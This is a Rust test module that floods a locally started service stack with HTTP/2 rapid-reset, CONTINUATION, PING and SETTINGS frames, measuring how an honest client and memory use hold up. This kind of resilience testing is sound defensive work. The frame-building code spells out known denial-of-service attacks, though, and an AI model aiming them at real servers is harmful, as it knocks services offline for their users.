//! Floods of HTTP/2 frames, on every port.

use super::{
    Outcome, Plan,
    h2::{
        self, CONTINUATION, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, call, flood, frame,
    },
    honest::HonestClient,
    stack::{Setup, Stack},
};

/// Connections that flood each port at once.
const CONNECTIONS: usize = 2;

pub(super) async fn rapid_reset(plan: &Plan) -> Outcome {
    let cancel = 8u32.to_be_bytes();
    everywhere(plan.count(20_000, 2_000), |count| {
        Box::new((0..count).map(move |n| {
            let stream = 2 * n as u32 + 1;
            let mut both = frame(HEADERS, END_HEADERS, stream, &call());
            both.extend(frame(RST_STREAM, 0, stream, &cancel));
            both
        }))
    })
    .await
}

pub(super) async fn continuation(plan: &Plan) -> Outcome {
    everywhere(plan.count(50_000, 2_000), |count| {
        let begin = frame(HEADERS, 0, 1, &call());
        let more = h2::fields(&[("x-padding", "a".repeat(100).as_str()); 8]);
        let more = frame(CONTINUATION, 0, 1, &more);
        Box::new(std::iter::once(begin).chain((0..count).map(move |_| more.clone())))
    })
    .await
}

pub(super) async fn ping(plan: &Plan) -> Outcome {
    everywhere(plan.count(200_000, 10_000), |count| {
        Box::new((0..count).map(|n| frame(PING, 0, 0, &(n as u64).to_be_bytes())))
    })
    .await
}

pub(super) async fn settings(plan: &Plan) -> Outcome {
    everywhere(plan.count(200_000, 10_000), |count| {
        Box::new((0..count).map(|_| frame(SETTINGS, 0, 0, &[])))
    })
    .await
}

type Frames = Box<dyn Iterator<Item = Vec<u8>> + Send>;

/// Floods all three ports at once.
async fn everywhere(count: usize, frames: impl Fn(usize) -> Frames) -> Outcome {
    let mut stack = Stack::start(&Setup::default());
    let honest = HonestClient::measured(&stack.gateway.url).await;
    stack.watch_memory();
    let addresses: Vec<String> =
        [&stack.encoders[0].url, &stack.diffusion[0].url, &stack.gateway.url]
            .map(|url| url.trim_start_matches("http://").to_owned())
            .to_vec();
    let attackers: Vec<_> = (0..CONNECTIONS)
        .flat_map(|_| addresses.clone())
        .map(|address| {
            let frames = frames(count);
            tokio::spawn(async move { flood(&address, frames).await })
        })
        .collect();
    let attack = async {
        let mut taken = 0;
        for attacker in attackers {
            taken += attacker.await.unwrap_or_default();
        }
        taken
    };
    let (taken, honest) = honest.beside(attack).await;
    let sent = CONNECTIONS * addresses.len() * count;
    let seen = format!("{taken} of {sent} frames were taken");
    Outcome { honest, memory: stack.memory(), seen, ..Outcome::default() }
}
